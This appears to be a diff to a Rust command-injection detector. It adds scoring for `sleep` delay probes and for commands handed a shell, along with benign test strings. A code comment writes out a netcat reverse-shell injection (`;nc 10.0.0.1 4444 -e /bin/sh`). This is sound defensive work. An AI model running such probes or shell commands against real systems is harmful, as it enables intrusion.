@@ -453,14 +453,9 @@ impl Rce {
                 .iter()
                 .any(|d| word.contains(d));
         let known = self.lookup(name);
-        // `sleep 5` and nothing more: the probe of time-based blind injection.
-        let delay = matches!(name, "sleep" | "usleep") && {
-            let mut words = rest.split_whitespace();
-            words
-                .next()
-                .is_some_and(|w| w.trim_end_matches(['s', 'm']).parse::<f32>().is_ok())
-                && words.next().is_none()
-        };
+        // `` `sleep 5` ``, `$(sleep 5)`: the probe of time-based blind injection (after `;`
+        // only when another separator closes it: see `delay_probe`).
+        let delay = matches!(sep, Sep::Substitution | Sep::Dollar) && delay_probe(name, rest);
         let args = argish(rest) || delay;
         let end = rest.trim().is_empty();
         match (sep, known) {
@@ -471,7 +466,9 @@ impl Rce {
             // `$(document)`, `$(name)`: jQuery and template syntax look the same.
             (Sep::Dollar, None) => 0.0,
             (_, _) if bin_dir && !name.is_empty() => 0.88,
-            (Sep::Explicit, Some(true)) if args || end || name.len() > 3 || has_option(rest) => 0.9,
+            (Sep::Explicit, Some(true)) if args || end || name.len() > 3 => 0.9,
+            // `;nc 10.0.0.1 4444 -e /bin/sh`: a shell handed to the command.
+            (Sep::Explicit, Some(_)) if shell_argument(rest) => 0.88,
             (Sep::Explicit, Some(true)) => 0.6,
             (Sep::Explicit, Some(false)) if args => 0.85,
             (Sep::Explicit, Some(false)) if end && name.len() <= 4 => 0.72,
@@ -723,6 +720,18 @@ impl Detector for Rce {
                 } else {
                     self.command_score(sep, segment, s.kind, 0)
                 };
+                // `;sleep 5;`, `|sleep 10|`: a delay between two separators.
+                let c = if sep == Sep::Explicit
+                    && matches!(b.get(i), Some(b';' | b'|' | b'&'))
+                    && segment
+                        .trim_start()
+                        .split_once(' ')
+                        .is_some_and(|(name, rest)| delay_probe(name, rest))
+                {
+                    c.max(0.85)
+                } else {
+                    c
+                };
                 let c = if s.kind == Kind::Header && s.name == "user-agent" {
                     c - 0.15
                 } else {
@@ -919,6 +928,26 @@ fn fork_bomb(lower: &str) -> Option<f32> {
 }
 
 /// True when `rest` holds a command-line option (`-m`, `--list`).
+/// `sleep 5` and nothing more (a whole number of seconds).
+fn delay_probe(name: &str, rest: &str) -> bool {
+    let mut words = rest.split_whitespace();
+    matches!(name, "sleep" | "usleep")
+        && words
+            .next()
+            .is_some_and(|w| !w.is_empty() && w.len() <= 8 && w.bytes().all(|c| c.is_ascii_digit()))
+        && words.next().is_none()
+}
+
+/// An argument that is a shell (`/bin/sh`, `/bin/bash`, `cmd.exe`): a command told to run one.
+fn shell_argument(rest: &str) -> bool {
+    rest.split_whitespace().take(16).any(|w| {
+        let base = w.rsplit(['/', '\\']).next().unwrap_or(w);
+        let pathy = w.contains(['/', '\\']);
+        pathy && matches!(base, "sh" | "bash" | "zsh" | "dash" | "ksh" | "ash")
+            || matches!(base, "cmd.exe" | "powershell.exe" | "pwsh.exe")
+    })
+}
+
 fn has_option(rest: &str) -> bool {
     rest.split_whitespace().any(|w| {
         let name = w.trim_start_matches('-');
@@ -1043,6 +1072,12 @@ mod tests {
             "Kids asleep; sleep 8 hours a night",
             "Hi; nc -- what does that mean",
             "Lunch; sleep 20 minutes after",
+            "Revenue up 4%; net income -2%",
+            "Forecast: sunny\nat night -3 degrees",
+            "Documents:\nID card -2 copies",
+            "Mon: run 5k; sleep 8",
+            "Goals:\nsleep 7\nwater 2L",
+            "Tried:\npip install foo --upgrade",
         ] {
             let s = arg(&*d, v);
             assert!(s < 0.7, "{v}: {s}");
